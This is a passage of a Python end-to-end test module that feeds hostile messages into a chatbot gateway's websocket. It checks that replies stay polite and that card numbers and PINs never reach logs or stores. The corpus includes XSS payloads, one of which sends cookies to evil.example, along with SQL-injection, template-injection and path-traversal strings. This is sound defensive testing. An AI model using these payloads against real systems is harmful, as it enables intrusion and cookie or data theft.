"""Hostile input through the public door: the gateway's chat socket, with the rasa server, the
action server and the sandbox behind it.

A corpus of messages strangers send (huge pastes, control and format characters, markup, SQL and
template syntax, fake button payloads, card numbers and PINs in every spelling) goes through the
socket. Every message must get a polite answer in its own language and leave the socket usable;
afterwards no card number or PIN may be found in the tracker (API and file), the case store (SQL
and file) or any process log.
"""

from __future__ import annotations

import asyncio
import json
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import pytest_asyncio
import sqlalchemy as sa
import websockets

from benchmarks.conversation import case_result as payload_of
from benchmarks.scenarios import reply_language
from bot.text.payloads import BUTTON_PAYLOADS
from bot.text.redaction import luhn_valid
from devtools.chat_socket import ChatSocket, bot_texts
from tests.e2e.conftest import Client, sandbox_transaction
from tests.e2e.extra_gateway import extra_gateway

pytestmark = pytest.mark.slow

SHANGHAI = ZoneInfo("Asia/Shanghai")
MAX_CHARS = 2000  # the gateway's default GATEWAY_MAX_MESSAGE_CHARS
MESSAGES_PER_SESSION = 14  # a new session before the per-session limit (20 a minute) would bite


# --- card numbers and PINs ---------------------------------------------------------------


def _luhn(body: str) -> str:
    """body and the check digit that makes it a valid card number."""
    return next(body + digit for digit in "0123456789" if luhn_valid(body + digit))


def _grouped(number: str, separator: str, size: int = 4) -> str:
    return separator.join(number[i : i + size] for i in range(0, len(number), size))


def _full_width(text: str) -> str:
    return text.translate(str.maketrans("0123456789 ", "０１２３４５６７８９\u3000"))


PAN_UNIONPAY_16 = _luhn("622848019274036")
PAN_UNIONPAY_19 = _luhn("623058013947261850")  # written like "卡号6222 0212 3456 7890 123" below
PAN_VISA = _luhn("453201511283036")
PAN_MASTERCARD = _luhn("552000149371862")
PAN_AMEX = _luhn("37144963539843")
PAN_13 = _luhn("422222298765")
PAN_CREDIT = _luhn("625807301958264")
PAN_DEBIT_19 = _luhn("621700093817465201")
# A 19-digit number after 卡号 that fails Luhn is no card (a typo or something else): no promise.
NOT_A_CARD = "6222021234567890123"
# An order number: long, Luhn-invalid, must survive redaction (and shows we look in the right place).
ORDER_NUMBER = next(n for n in (f"2026112600{i:07d}" for i in range(1357913, 1358013)) if not luhn_valid(n))
assert not luhn_valid(NOT_A_CARD)


@dataclass(frozen=True)
class Hostile:
    kind: str
    text: str
    # "zh"/"en" when the message is plainly written in that language; None when it does not tell.
    language: str | None = None
    # Card numbers and PINs (digits) it carries: they must be stored, logged and echoed nowhere.
    secrets: tuple[str, ...] = ()
    # Short codes that are only secret next to their label ("cvv 947"), searched as such.
    phrases: tuple[str, ...] = ()
    # What the gateway answers: "ack" (the bot's reply), or the code of a polite "reject".
    expect: str = "ack"


def _huge(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


CORPUS: list[Hostile] = [
    # Huge: over the limit, at it, just under it (with a card number at the very end).
    Hostile("huge", "扣" * (MAX_CHARS + 1), "zh", expect="too_long"),
    Hostile("huge", _huge("my card was charged but the payment failed. ", 5000), "en", expect="too_long"),
    Hostile("huge", _huge("刷卡失败但是钱被扣了，", MAX_CHARS), "zh"),
    Hostile(
        "huge",
        _huge("the terminal said declined and I was charged ", MAX_CHARS - 40) + f" card {PAN_VISA}",
        "en",
        secrets=(PAN_VISA,),
    ),
    Hostile("huge", "  " + _huge("help me please ", MAX_CHARS - 1) + "   ", "en"),  # fits once trimmed
    Hostile("huge", _huge("😡", MAX_CHARS - 1)),
    # Empty and whitespace only.
    Hostile("empty", "", expect="empty"),
    Hostile("empty", "   \t  ", expect="empty"),
    Hostile("empty", "\r\n" * 50, expect="empty"),
    Hostile("empty", "\u3000\u3000\u00a0", expect="empty"),
    Hostile("empty", "\u200b\u200b\u200b", expect="empty"),  # invisible only: nothing to send
    Hostile("empty", "\u202e\u2066\x00\ufeff", expect="empty"),
    # Control characters.
    Hostile("control", "\x00", expect="empty"),  # nothing visible: refused as empty
    Hostile("control", "刷卡失败\x00扣了128元\x00", "zh"),
    Hostile("control", "\x1b[31m红色警告\x1b[0m 钱被扣了", "zh"),
    Hostile("control", "\x1b]0;pwned\x07\x1b[2J the machine said failed", "en"),
    Hostile("control", "hello\r\n" * 200, "en"),
    # Mostly English words around one Chinese word: the reply follows the main script.
    Hostile("control", "退款\n2026-11-26 12:00:00 INFO rasa.core fake log line\n", "en"),
    Hostile("control", "\x08\x08\x08\x7f\x7f\u0085\u2028\u2029 刷卡失败", "zh"),
    # Bidirectional overrides and isolates.
    Hostile("bidi", "\u202e款退要我\u202c", "zh"),
    Hostile("bidi", "终端号\u202e74839201\u202c", "zh"),
    Hostile("bidi", "I paid \u2066128\u2069 yuan \u2067but\u2069 \u2068it failed\u2069", "en"),
    Hostile("bidi", "\u200f\u200e\u061c\u202a\u202b\u202d", expect="empty"),  # direction marks alone: empty
    # Zero-width characters.
    Hostile("zero-width", "终\u200b端\u200b号 1029\u200b3847", "zh"),
    Hostile("zero-width", "\ufeff你好\u2060", "zh"),
    Hostile("zero-width", "re\u200bfund\u200d me\u200c please", "en"),
    # Emoji floods.
    Hostile("emoji", "💳" * 500 + " 扣钱了 " + "😭" * 500, "zh"),
    Hostile("emoji", "👨\u200d👩\u200d👧\u200d👦" * 200),
    Hostile("emoji", "🇨🇳" * 300 + " refund!!!", "en"),
    Hostile("emoji", "1️⃣2️⃣8️⃣ 块 😤😤", "zh"),
    # Markup.
    Hostile("html", "<script>alert('xss')</script>"),
    Hostile("html", "<img src=x onerror=alert(document.cookie)>"),
    Hostile("html", '<a href="javascript:alert(1)">点我退款</a>', "zh"),
    Hostile("html", "javascript:alert(1)//"),
    Hostile("html", "</textarea><script src=//evil.example/x.js></script>"),
    Hostile("html", "<svg/onload=fetch('//evil.example?'+document.cookie)> my money is gone", "en"),
    Hostile("html", "[click here](javascript:alert(1)) ![x](http://evil.example/x.png)"),
    Hostile("html", "&lt;b&gt;扣了钱&lt;/b&gt; &#x3C;script&#x3E;", "zh"),
    # SQL.
    Hostile("sql", "'; DROP TABLE tickets;--"),
    Hostile("sql", "1 OR 1=1"),
    Hostile("sql", "' OR '1'='1' --"),
    Hostile("sql", "RF-20261126-0042' UNION SELECT password_hash FROM agents--"),
    Hostile("sql", "终端号 1029' OR 1=1; DELETE FROM escalations;--", "zh"),
    Hostile("sql", "admin'/*", None),
    # Templates and format strings.
    Hostile("template", "{{7*7}}"),
    Hostile("template", "${7*7}"),
    Hostile("template", "{slot} {amount} {terminal_id}"),
    Hostile("template", "%s%s%s%n%x"),
    Hostile("template", "{% for x in range(100000) %}x{% endfor %}"),
    Hostile("template", "{{config.__class__.__init__.__globals__}}"),
    Hostile("template", "#{7*7} <%= 7*7 %> {0.__class__}"),
    # Rasa payloads typed by hand (some are the bot's own buttons and stay allowed).
    Hostile("payload", "/affirm"),
    Hostile("payload", "/deny"),
    Hostile("payload", '/inform{"amount":"99999"}'),
    Hostile("payload", '/qr_scanned{"qr":{"terminal_id":"10293847","merchant":"全家"}}'),
    Hostile("payload", "/qr_scanned"),
    Hostile("payload", "/restart"),
    Hostile("payload", "/session_start"),
    Hostile("payload", "/nlu_fallback"),
    Hostile("payload", '/greet{"language":"en"}'),
    Hostile("payload", "\u200b/restart"),
    Hostile("payload", "／restart"),
    Hostile("payload", "/AFFIRM"),
    Hostile("payload", "/request_human"),
    # JSON inside the text.
    Hostile("json", '{"type":"message","id":"x","text":"/restart"}'),
    Hostile("json", '{"sender":"someone-else","message":"/affirm","metadata":{"qr":{"t":"x"}}}'),
    Hostile("json", '{"amount": 99999, "terminal_id": "AB12CD34"}'),
    Hostile("json", '{"__proto__":{"admin":true}}'),
    Hostile("json", "[null, true, 1e999, -0, NaN]"),
    # Path traversal.
    Hostile("path", "../../../../etc/passwd"),
    Hostile("path", "..\\..\\windows\\win.ini"),
    Hostile("path", "%2e%2e%2f%2e%2e%2fvar%2fcases.db"),
    Hostile("path", "file:///etc/shadow"),
    Hostile("path", "工单号 RF-../../../../etc/passwd", "zh"),
    # Very long numbers.
    Hostile("number", "9" * 400),
    Hostile("number", "1" * (MAX_CHARS - 1)),
    Hostile("number", "扣了 99999999999999999999999999 元", "zh"),
    Hostile("number", "charged 1e308 yuan", "en"),
    Hostile("number", "0.0000000001元", "zh"),
    Hostile("number", "NaN yuan, Infinity rmb, -0 块"),  # mixed: no one language
    Hostile("number", f"订单号 {ORDER_NUMBER} 扣了钱", "zh"),
    # Card numbers in every spelling, Chinese and English.
    Hostile("card", f"我的卡号是{PAN_UNIONPAY_16}", "zh", (PAN_UNIONPAY_16,)),
    Hostile("card", f"卡号{_grouped(PAN_UNIONPAY_19, ' ')}", "zh", (PAN_UNIONPAY_19,)),
    Hostile("card", f"card number {_grouped(PAN_VISA, '-')} please refund", "en", (PAN_VISA,)),
    Hostile("card", f"卡号：{_grouped(PAN_MASTERCARD, '.')}", "zh", (PAN_MASTERCARD,)),
    Hostile("card", f"卡号{_full_width(_grouped(PAN_CREDIT, ' '))}", "zh", (PAN_CREDIT,)),
    Hostile("card", f"my card is {_full_width(PAN_DEBIT_19)}", "en", (PAN_DEBIT_19,)),
    Hostile("card", f"刷的是{PAN_UNIONPAY_19}这张卡，扣了128块", "zh", (PAN_UNIONPAY_19,)),
    Hostile("card", f"扣了128 {_grouped(PAN_UNIONPAY_16, ' ')} 12月5号", "zh", (PAN_UNIONPAY_16,)),
    Hostile("card", f"amex {PAN_AMEX[:4]} {PAN_AMEX[4:10]} {PAN_AMEX[10:]} was charged", "en", (PAN_AMEX,)),
    Hostile("card", "card\u00a0" + _grouped(PAN_13, "\u00a0", 13) + " was charged", "en", (PAN_13,)),
    Hostile("card", "卡号 " + "\u200b".join(PAN_CREDIT), "zh", (PAN_CREDIT,)),
    Hostile("card", "卡号\n" + _grouped(PAN_DEBIT_19, "\n"), "zh", (PAN_DEBIT_19,)),
    Hostile("card", f"\u202e{_grouped(PAN_MASTERCARD, ' ')}\u202c 是我的卡", "zh", (PAN_MASTERCARD,)),
    Hostile("card", f"the card {_grouped(PAN_VISA, ' - ')} got charged twice", "en", (PAN_VISA,)),
    Hostile("card", f"卡号{_grouped(NOT_A_CARD, ' ')}", "zh"),  # fails Luhn: no card, no promise
    # PINs and CVVs, named as such.
    Hostile("pin", "密码是六三九二八一", "zh", ("639281",)),
    Hostile("pin", "PIN 582047", None, ("582047",)),
    Hostile("pin", "密码：８８０７３１", "zh", ("880731",)),
    Hostile("pin", "PIN码是 730164", "zh", ("730164",)),
    Hostile("pin", "my pin is 4829, cvv 947", "en", phrases=("pin is 4829", "cvv 947")),
    Hostile("pin", "取款密码为：5 0 2 7 1 8", "zh", ("502718",)),
    Hostile("pin", "验证码 613904 发给你了", "zh", ("613904",)),
    Hostile(
        "pin",
        f"卡号 {_grouped(PAN_13, ' ')} 密码 394857 CVV2: 618",
        "zh",
        (PAN_13, "394857"),
        ("cvv2: 618",),
    ),
]
# Only the bot's buttons stay payloads when typed; they ask for a person at the end of a session.
LAST_IN_SESSION = "/request_human"
SECRETS = sorted({s for item in CORPUS for s in item.secrets})
PHRASES = sorted({p for item in CORPUS for p in item.phrases})


@dataclass(frozen=True)
class Raw:
    """A websocket frame sent as is, not as the widget would send it."""

    name: str
    frame: str | bytes
    # "notice" (bad_request), "ack" or the code of a "reject".
    expect: str


RAW_FRAMES: list[Raw] = [
    Raw("binary", b"\x00\xff\xfe\x89PNG\r\n\x1a\n binary", "notice"),
    Raw("binary json", json.dumps({"type": "message", "id": "b1", "text": "hi"}).encode(), "notice"),
    Raw("latin-1 bytes", "退款 caf\xe9".encode("latin-1", "replace"), "notice"),
    Raw("not json", "{not json", "notice"),
    Raw("empty frame", "", "notice"),
    Raw("json null", "null", "notice"),
    Raw("json list", "[]", "notice"),
    Raw("no id", '{"type":"message","text":"hi"}', "notice"),
    Raw("id too long", json.dumps({"type": "message", "id": "x" * 65, "text": "hi"}), "notice"),
    Raw("numeric id", '{"type":"message","id":42,"text":"hi"}', "notice"),
    Raw("NaN id", '{"type":"message","id":NaN,"text":"hi"}', "notice"),
    Raw("huge integer", '{"type":"message","id":"n","text":' + "9" * 5000 + "}", "notice"),
    Raw("second hello", '{"type":"hello","session":"web-x.y.z","qr":"AAAA"}', "notice"),
    Raw("unknown type", '{"type":"admin","command":"drop"}', "notice"),
    Raw("text is a number", '{"type":"message","id":"r1","text":42}', "empty"),
    Raw("text is an object", '{"type":"message","id":"r2","text":{"$gt":""}}', "empty"),
    Raw("unknown language", '{"type":"message","id":"r3","text":"hello","language":"../../x"}', "ack"),
    Raw(
        "markup display",
        json.dumps(
            {"type": "message", "id": "r4", "text": "/deny", "display": "<img src=x onerror=alert(1)>"}
        ),
        "ack",
    ),
    Raw("duplicate keys", '{"type":"message","id":"r5","text":"/restart","text":"hello"}', "ack"),
]

# Exception text that must never reach a browser.
_LEAKED_ERROR = re.compile(r"Traceback|\bError\b|Exception|File \"|line \d+, in |sqlalchemy|rasa\.core", re.I)


# --- the run -----------------------------------------------------------------------------


@dataclass
class Turn:
    """What one hostile message (or frame) got back, and what the next message on the same socket
    that the bot must answer got back: the next hostile message, or a normal one sent to check."""

    sent: Hostile | Raw
    frames: list[dict[str, Any]]
    after: list[dict[str, Any]] = field(default_factory=list)
    probe: bool = False  # whether `after` is the answer to a normal message in the session's language
    language: str = "zh"  # the session's language


@dataclass
class Run:
    turns: list[Turn] = field(default_factory=list)
    conversations: list[str] = field(default_factory=list)
    gateway_log: Path | None = None
    log_offsets: dict[Path, int] = field(default_factory=dict)


PROBES = {"zh": "你好", "en": "hello"}


async def _until_answer(chat: ChatSocket, client_id: str | None) -> list[dict[str, Any]]:
    """Frames up to the gateway's answer: the ack/reject/retry of client_id, or a notice."""
    frames = []
    while True:
        frame = await chat.receive(timeout=90)
        frames.append(frame)
        if frame["type"] == "notice" and client_id is None:
            return frames
        if frame["type"] in ("ack", "reject", "retry") and (
            client_id is None or frame.get("id") == client_id
        ):
            return frames


async def _send_message(chat: ChatSocket, text: str, language: str) -> list[dict[str, Any]]:
    client_id = uuid.uuid4().hex
    await chat.send({"type": "message", "id": client_id, "text": text, "language": language})
    return await _until_answer(chat, client_id)


async def _send_raw(chat: ChatSocket, raw: Raw) -> list[dict[str, Any]]:
    await chat.socket.send(raw.frame)
    return await _until_answer(chat, None)


async def _session(gateway: str, items: list[Hostile | Raw], language: str, run: Run) -> None:
    """One browser session: the items one after the other, then a normal message. The bot's reply to
    the next message it must answer (the next hostile one, or that normal one) shows the socket is
    still usable after each item."""
    chat, welcome = await ChatSocket.open(gateway, language=language)
    assert welcome["type"] == "welcome", welcome
    run.conversations.append(welcome["session"].split(".")[0])
    turns: list[Turn] = []
    try:
        for item in items:
            if isinstance(item, Raw):
                frames = await _send_raw(chat, item)
            else:
                frames = await _send_message(chat, item.text, language)
            if item.expect == "ack":
                for waiting in (turn for turn in turns if not turn.after):
                    waiting.after = frames
            turns.append(Turn(item, frames, language=language))
        probe = await _send_message(chat, PROBES[language], language)
        for waiting in (turn for turn in turns if not turn.after):
            waiting.after, waiting.probe = probe, True
    finally:
        await chat.close()
        run.turns.extend(turns)


def _sessions() -> list[tuple[list[Hostile | Raw], str]]:
    """The corpus in sessions of a few messages, raw frames mixed in, alternately Chinese and English."""
    items: list[Hostile | Raw] = []
    raws = iter(RAW_FRAMES)
    for index, hostile in enumerate(CORPUS):
        items.append(hostile)
        if index % 5 == 4:
            items.extend(r for r in [next(raws, None)] if r is not None)
    items.extend(raws)
    chunks = [items[i : i + MESSAGES_PER_SESSION] for i in range(0, len(items), MESSAGES_PER_SESSION)]
    request_human = Hostile("payload", LAST_IN_SESSION)
    # The sessions that carried card numbers end by asking for a person: their escalation, with its
    # summary of the conversation, lands in the case store.
    return [
        (chunk + ([request_human] if any(isinstance(i, Hostile) and i.secrets for i in chunk) else []), lang)
        for chunk, lang in zip(chunks, ["zh", "en"] * len(chunks), strict=False)
    ]


def _log_sizes(workdir: Path) -> dict[Path, int]:
    return {log: log.stat().st_size for log in workdir.glob("*.log")}


@pytest.fixture(scope="module")
def gateway(assistant: Client) -> Iterator[str]:
    """A gateway of this module's own, in front of the session's rasa server: its rate limits are
    raised, so that a fast script neither hits them nor eats the shared gateway's per-address budget
    that other modules' tests need (the limits themselves are tested in test_gateway.py). Its log is
    in the work directory with the other processes' logs."""
    limits = {"GATEWAY_SESSION_MESSAGES_PER_MINUTE": "1000", "GATEWAY_ADDRESS_MESSAGES_PER_MINUTE": "5000"}
    with extra_gateway(assistant.processes, assistant.processes.workdir, **limits) as url:
        yield url


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def run(assistant: Client, gateway: str) -> Run:
    """The whole corpus through the gateway, three sessions at a time."""
    workdir = assistant.processes.workdir
    result = Run(
        log_offsets=_log_sizes(workdir), gateway_log=workdir / f"gateway-{gateway.rsplit(':', 1)[1]}.log"
    )
    sessions = _sessions()
    for first in range(0, len(sessions), 3):
        await asyncio.gather(
            *(_session(gateway, items, lang, result) for items, lang in sessions[first : first + 3])
        )
    return result


# --- every message gets a polite answer, in its language, and the socket stays usable -----------


def _gateway_text(frames: list[dict[str, Any]]) -> str:
    """What the gateway and the bot wrote (an ack's text is the user's own message, redacted)."""
    return json.dumps(
        [{k: v for k, v in f.items() if not (f["type"] == "ack" and k == "text")} for f in frames]
    )


def test_every_hostile_message_gets_a_polite_answer(run: Run) -> None:
    assert len(run.turns) == len(CORPUS) + len(RAW_FRAMES) + sum(
        1 for items, _ in _sessions() if items[-1] == Hostile("payload", LAST_IN_SESSION)
    )
    for turn in run.turns:
        frames, sent = turn.frames, turn.sent
        label = f"{type(sent).__name__} {getattr(sent, 'kind', getattr(sent, 'name', ''))}: {sent!r:.80}"
        last = frames[-1]
        assert not _LEAKED_ERROR.search(_gateway_text(frames)), (label, frames)
        assert all(f["type"] != "retry" for f in frames), (label, "the bot failed to answer", frames)
        if sent.expect == "ack":
            assert last["type"] == "ack", (label, frames)
            assert bot_texts(frames) or any(f["type"] == "bot" for f in frames), (label, "no reply", frames)
        elif sent.expect == "notice":
            assert last["type"] == "notice" and last["code"] == "bad_request" and last["text"], (
                label,
                frames,
            )
        else:
            assert last["type"] == "reject" and last["code"] == sent.expect, (label, frames)
            assert last["text"] and not _LEAKED_ERROR.search(last["text"]), (label, frames)
            if sent.expect == "too_long":
                assert str(MAX_CHARS) in last["text"], last["text"]


def test_the_socket_stays_usable_after_every_hostile_message(run: Run) -> None:
    assert sum(turn.probe for turn in run.turns) >= len(_sessions())
    for turn in run.turns:
        after = turn.after
        assert after and after[-1]["type"] == "ack", (turn.sent, after)
        assert bot_texts(after), (turn.sent, "no reply to the next message", after)
        assert not _LEAKED_ERROR.search(_gateway_text(after)), after


def test_replies_are_in_the_language_of_the_message(run: Run) -> None:
    checked = 0
    for turn in run.turns:
        if isinstance(turn.sent, Hostile) and turn.sent.language and turn.sent.expect == "ack":
            for text in bot_texts(turn.frames):
                assert reply_language(text) == turn.sent.language, (turn.sent, text)
            checked += 1
        if isinstance(turn.sent, Hostile) and turn.sent.expect not in ("ack",):
            # The gateway's own notices follow the browser's language.
            assert reply_language(turn.frames[-1]["text"]) == turn.language, turn.frames
        for text in bot_texts(turn.after) if turn.probe else []:
            assert reply_language(text) == turn.language, (turn.sent, "probe", text)
    assert checked >= 40


def test_replies_never_echo_markup_or_evaluate_templates(run: Run) -> None:
    for turn in run.turns:
        if not isinstance(turn.sent, Hostile) or turn.sent.kind not in ("html", "template", "path"):
            continue
        said = "\n".join(bot_texts(turn.frames))
        assert not re.search(r"<script|onerror|onload|javascript:|/etc/|win\.ini", said, re.I), said
        assert "49" not in said, ("a template was evaluated", said)


def test_typed_payloads_do_not_steer_the_dialogue(run: Run, assistant: Client) -> None:
    for conversation in run.conversations:
        events = assistant.tracker(conversation)["events"]
        kinds = [e["event"] for e in events]
        actions = [e.get("name") for e in events if e["event"] == "action"]
        assert "restart" not in kinds, conversation
        assert kinds.count("session_started") <= 1, conversation
        assert "action_start_from_qr" not in actions and "action_restart" not in actions, conversation
        for event in events:
            if event["event"] == "user" and (event.get("text") or "").startswith("/"):
                assert event["text"] in BUTTON_PAYLOADS, event["text"]


# --- no card number or PIN anywhere ------------------------------------------------------------

_TO_ASCII = str.maketrans("０１２３４５６７８９零〇一二三四五六七八九幺两", "01234567890012345678912")
_INVISIBLE = "\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
# What may separate the groups of one number: spaces, dashes, invisible characters and escaped line
# breaks; for card numbers, dots too.
_BETWEEN_DIGITS = re.compile(rf"(?<=[0-9])(?:[\s\-\u2010-\u2015{_INVISIBLE}]|\\[ntr])+(?=[0-9])")
_BETWEEN_CARD_DIGITS = re.compile(rf"(?<=[0-9])(?:[\s\-.\u2010-\u2015{_INVISIBLE}]|\\[ntr])+(?=[0-9])")


def _readable(raw: str) -> str:
    """Text as stored, with JSON's \\uXXXX escapes decoded (Chinese and full-width digits are
    stored escaped), full-width and Chinese digits made ASCII."""
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), raw).translate(_TO_ASCII)


def _numbers(text: str, between: re.Pattern[str] = _BETWEEN_DIGITS) -> list[str]:
    """Every number in text as its digits, the groups of each joined."""
    return re.findall(r"[0-9]+", between.sub("", _readable(text)))


def _found(text: str) -> list[str]:
    """The corpus's card numbers and PINs that text holds, in any spelling.

    A card number anywhere inside a number is one; a PIN only as a number of its own, so that the
    microseconds of a stored timestamp are not taken for one."""
    card_numbers = _numbers(text, _BETWEEN_CARD_DIGITS)
    numbers = set(_numbers(text))
    flat = re.sub(r"\s+", " ", _readable(text)).lower()
    found = [s for s in SECRETS if (any(s in n for n in card_numbers) if len(s) >= 13 else s in numbers)]
    return found + [p for p in PHRASES if p in flat or p.replace(" ", "") in flat]


def _raw(paths: list[Path]) -> str:
    return "".join(path.read_bytes().decode("utf-8", "replace") for path in paths if path.exists())


def _sqlite_files(url: str) -> list[Path]:
    if not url.startswith("sqlite:///"):
        return []
    database = Path(url.removeprefix("sqlite:///"))
    return [database, *database.parent.glob(database.name + "-*")]  # with -wal, -journal


def _tables(url: str) -> dict[str, str]:
    """Every table of a database as text, row by row."""
    engine = sa.create_engine(url)
    try:
        with engine.connect() as connection:
            tables = sa.inspect(connection).get_table_names()
            return {
                table: "\n".join(
                    json.dumps([str(value) for value in row], ensure_ascii=False)
                    for row in connection.execute(sa.text(f'SELECT * FROM "{table}"'))
                )
                for table in tables
            }
    finally:
        engine.dispose()


def test_the_secrets_are_real_card_numbers_and_pins() -> None:
    cards = [s for s in SECRETS if len(s) >= 13]
    assert len(cards) == 8 and all(luhn_valid(card) for card in cards)
    assert len({len(card) for card in cards}) >= 4  # 13, 15, 16 and 19 digits
    assert _found(f"x {_grouped(PAN_VISA, ' - ')} y") == [PAN_VISA]
    assert _found(json.dumps("卡号 " + _full_width(PAN_CREDIT))) == [PAN_CREDIT]
    assert _found(json.dumps("密码是六三九二八一")) == ["639281"]
    assert _found("My PIN  is 4829") == ["pin is 4829"]


def test_no_card_number_or_pin_reaches_the_browser(run: Run) -> None:
    for turn in run.turns:
        frames = json.dumps(turn.frames + turn.after, ensure_ascii=False)
        assert not _found(frames), (turn.sent, _found(frames))


def test_no_card_number_or_pin_is_in_the_tracker(run: Run, assistant: Client) -> None:
    trackers = json.dumps([assistant.tracker(c) for c in run.conversations], ensure_ascii=False)
    assert _found(trackers) == []
    # We look at the right conversations: an order number typed among them is there, as typed.
    assert ORDER_NUMBER in _numbers(trackers)
    processes = assistant.processes
    store_url = getattr(processes, "tracker_store_url", f"sqlite:///{processes.tracker_db}")
    stored = "\n".join(_tables(store_url).values())
    assert ORDER_NUMBER in stored and _found(stored) == []
    raw = _raw(_sqlite_files(store_url))
    if raw:  # the SQLite file itself, free pages and write-ahead log included
        assert _found(raw) == []


def test_no_card_number_or_pin_is_in_the_case_store(run: Run, assistant: Client) -> None:
    url = assistant.processes.case_store_url
    tables = _tables(url)
    escalated = [c for c in run.conversations if c in tables["escalations"]]
    assert escalated, "the sessions that carried card numbers asked for a person"
    for table, rows in tables.items():
        assert _found(rows) == [], table
    raw = _raw(_sqlite_files(url))
    if raw:
        assert _found(raw) == []


def test_no_card_number_or_pin_is_in_any_log(run: Run, assistant: Client) -> None:
    logs = sorted(assistant.processes.workdir.glob("*.log"))
    assert run.gateway_log in logs and len(logs) >= 5  # sandbox, actions, gateway, rasa, ours
    for log in logs:
        assert _found(_raw([log])) == [], log.name
        # Hostile input makes no process fail: nothing was logged as a crash while the corpus ran.
        written = log.read_bytes()[run.log_offsets.get(log, 0) :].decode("utf-8", "replace")
        assert "Traceback" not in written, (log.name, written[written.find("Traceback") :][:3000])


# --- the form survives hostile answers ----------------------------------------------------------


async def test_hostile_answers_in_the_middle_of_the_form_do_not_corrupt_it(
    assistant: Client, gateway: str
) -> None:
    transaction = sandbox_transaction(assistant, "TXN0005")
    when = datetime.fromisoformat(transaction["created_at"]).astimezone(SHANGHAI)
    chat, welcome = await ChatSocket.open(gateway)
    conversation = welcome["session"].split(".")[0]
    try:
        await chat.say("刷卡显示交易失败，但是钱被扣了")
        asked = bot_texts(await chat.say(f"{when.month}月{when.day}日 {when:%H:%M}"))
        assert any("多少钱" in text or "金额" in text for text in asked), asked
        before = assistant.tracker(conversation)["slots"]

        async def hostile(text: str, question: str) -> None:
            # One hostile answer to each question: answered, nothing set, the same question again.
            frames = await chat.say(text)
            assert frames[-1]["type"] == "ack" and bot_texts(frames), (text, frames)
            slots = assistant.tracker(conversation)["slots"]
            assert slots["dialogue"]["pending_question"] == question, (text, slots["dialogue"])
            assert slots["transaction_time"] == before["transaction_time"], text
            assert slots["merchant_name"] is None and slots["card_last4"] is None, (text, slots)

        await hostile('/inform{"amount":"1"}', "amount")
        assert assistant.tracker(conversation)["slots"]["amount"] is None
        assert "终端" in "".join(bot_texts(await chat.say(f"扣了{transaction['amount']}块")))
        assert "后4位" in "".join(bot_texts(await chat.say(f"终端号 {transaction['terminal_id']}")))
        await hostile("{{7*7}}", "card_last4")
        # A card number and a PIN instead of the last 4: redacted, and the bot goes on without them.
        concluded = await chat.say(f"卡号 {_grouped(PAN_UNIONPAY_16, ' ')} 密码是六三九二八一")
    finally:
        await chat.close()
    payload = payload_of([{"custom": f["custom"]} for f in concluded if "custom" in f])
    assert payload is not None and payload["outcome"] == "refund_ticket", concluded
    assert payload["transaction_id"] == "TXN0005"
    slots = assistant.tracker(conversation)["slots"]
    assert (
        slots["amount"] == f"{float(transaction['amount']):.2f}"
        and slots["terminal_id"] == transaction["terminal_id"]
    )
    assert not _found(json.dumps(assistant.tracker(conversation)))


async def test_a_shop_name_full_of_template_syntax_is_shown_as_typed(gateway: str) -> None:
    chat, _ = await ChatSocket.open(gateway, language="en")
    try:
        await chat.say("card payment failed but I was charged 88 yuan yesterday at 3pm", language="en")
        await chat.say("/no_terminal_id", language="en")
        shop = "{{7*7}} {amount} %s ${terminal_id} <b>Shop</b>"
        await chat.say(shop, language="en")
        # No card ending: the lookup finds nothing there and says so, naming the shop as typed.
        said = "\n".join(bot_texts(await chat.say("I don't know it", language="en")))
    finally:
        await chat.close()
    assert shop in said and "49" not in said, said


# --- frames the gateway cannot take apart -------------------------------------------------------


async def test_a_frame_over_the_size_limit_closes_only_that_socket(gateway: str) -> None:
    chat, welcome = await ChatSocket.open(gateway)
    await chat.send({"type": "message", "id": "huge", "text": "扣" * 30_000, "language": "zh"})  # ~90 kB
    with pytest.raises(websockets.exceptions.ConnectionClosed) as closed:
        await chat.receive(timeout=10)
    assert closed.value.code == 1009  # "message too big", not a crash (1011)
    again, replay = await ChatSocket.open(gateway, session=welcome["session"])
    frames = await again.say("你好")
    await again.close()
    assert replay["session"].split(".")[0] == welcome["session"].split(".")[0]
    assert frames[-1]["type"] == "ack" and bot_texts(frames)


async def _answer_to_raw(gateway: str, frame: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The gateway's answer to one raw frame, and to a normal message after it on the same socket."""
    chat, _ = await ChatSocket.open(gateway)
    try:
        await chat.socket.send(frame)
        answer = await _until_answer(chat, None)
        return answer, await chat.say("你好")
    finally:
        await chat.close()


async def test_a_deeply_nested_json_frame_gets_a_polite_answer(gateway: str) -> None:
    answer, after = await _answer_to_raw(gateway, "[" * 30_000 + "]" * 30_000)
    assert answer[-1]["type"] == "notice" and answer[-1]["code"] == "bad_request"
    assert after[-1]["type"] == "ack" and bot_texts(after)


async def test_a_lone_surrogate_in_the_text_gets_a_polite_answer(gateway: str) -> None:
    frame = '{"type":"message","id":"s1","text":"\\ud800 \\udcff 退款","language":"zh"}'
    answer, after = await _answer_to_raw(gateway, frame)
    assert answer[-1]["type"] in ("ack", "reject") and answer[-1]["id"] == "s1"
    assert after[-1]["type"] == "ack" and bot_texts(after)


async def test_a_lone_surrogate_in_the_id_gets_a_polite_answer(gateway: str) -> None:
    frame = '{"type":"message","id":"\\ud800","text":"你好","language":"zh"}'
    answer, after = await _answer_to_raw(gateway, frame)
    assert answer[-1]["type"] in ("notice", "ack", "reject")
    assert after[-1]["type"] == "ack" and bot_texts(after)


# --- messages built to make the parsers work hard ------------------------------------------------

# Dates, times, amounts and IDs repeated up to the message cap, in both languages: adjacent dates made
# Duckling allocate gigabytes and abort the action server ("11月24日" seven times was enough).
_PARSER_FRAGMENTS = {
    "zh": [
        "11月24日",
        "下午3点",
        "今天下午",
        "晚上",
        "128块5",
        "一百二十八元五角",
        "终端号1029-3847 ",
        "两百十",
    ],
    "en": ["nov 24 ", "yesterday at 3pm ", "noon ", "128.50 yuan ", "TID A1B2C3D4 ", "christmas "],
}
PARSER_HEAVY = [
